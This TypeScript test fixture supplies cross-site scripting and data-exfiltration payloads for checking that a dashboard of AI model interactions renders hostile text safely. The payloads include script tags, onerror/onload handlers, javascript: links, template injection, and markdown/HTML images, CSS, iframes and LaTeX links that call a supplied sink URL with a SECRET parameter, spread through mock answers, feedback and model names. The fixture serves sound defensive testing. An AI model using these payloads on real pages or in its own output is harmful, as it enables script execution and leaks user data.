import type { InteractionDetail, ModelStatus } from '../../src/surfaces/dashboard/contract.ts';
import { mockInteractions } from './mock-data.ts';
import { mockModels } from './mock-models.ts';

/** Texts that would run code, were they read as anything but text. */
export const scripts = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"></svg>',
  '"><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  "javascript:window.pwned=1//'+alert(1)+'",
  '{{constructor.constructor("window.pwned = 1")()}}',
];

/** Markdown and HTML that would fetch from `sink` or run code, were it obeyed. */
export function hostileAnswer(sink: string): string {
  return [
    `![picture](${sink}/image?d=SECRET)`,
    `![reference][one]\n\n[one]: ${sink}/reference`,
    `<img src="${sink}/html-image">`,
    `<svg><image href="${sink}/svg-image"/></svg>`,
    `<style>body { background: url(${sink}/css) }</style>`,
    `<iframe src="${sink}/frame"></iframe><link rel="stylesheet" href="${sink}/link">`,
    `$\\href{${sink}/latex}{x}$`,
    '[click me](javascript:window.pwned=1)',
    '[data](data:text/html,<script>window.pwned=1</script>)',
    `[honest](${sink}/clicked)`,
    `> ![in a quote](${sink}/quote)`,
    `- ![in a list](${sink}/list)`,
    `| a |\n|---|\n| ![in a table](${sink}/table) |`,
    ...scripts,
  ].join('\n\n');
}

export function hostileInteraction(sink: string): InteractionDetail {
  const [template] = mockInteractions(Date.now(), 1);
  const script = scripts.join(' ');
  return {
    ...template!,
    asked: script.slice(0, 140),
    model: `ollama/${scripts[1]}`,
    client: scripts[2]!,
    reason: script,
    errorMessage: script,
    why: [...scripts],
    messages: [{ role: 'user', content: script }],
    answer: { role: 'assistant', content: hostileAnswer(sink), reasoning_content: script },
    feedback: [
      {
        id: 1,
        interactionId: template!.id,
        createdAt: Date.now(),
        rating: 1,
        comment: script,
        correction: script,
        source: 'dashboard',
      },
    ],
  };
}

export function hostileModels(): ModelStatus[] {
  return scripts.map((script) => ({ ...mockModels[0]!, id: `ollama/${script}`, name: script }));
}
